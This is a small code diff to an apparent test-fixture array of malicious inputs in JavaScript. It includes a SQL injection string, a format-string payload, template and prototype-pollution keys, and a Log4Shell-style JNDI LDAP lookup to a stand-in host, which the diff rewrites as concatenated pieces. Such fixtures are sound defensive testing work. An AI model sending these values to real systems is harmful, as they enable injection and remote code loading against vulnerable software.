@@ -122,7 +122,7 @@ const SHELL = [
   "' OR 1=1 --",
   '{{template}}',
   '%s%n%d',
-  '${jndi:ldap://example.invalid}',
+  '$' + '{jndi:ldap://example.invalid}',
   '__proto__',
   'constructor',
   'toString',
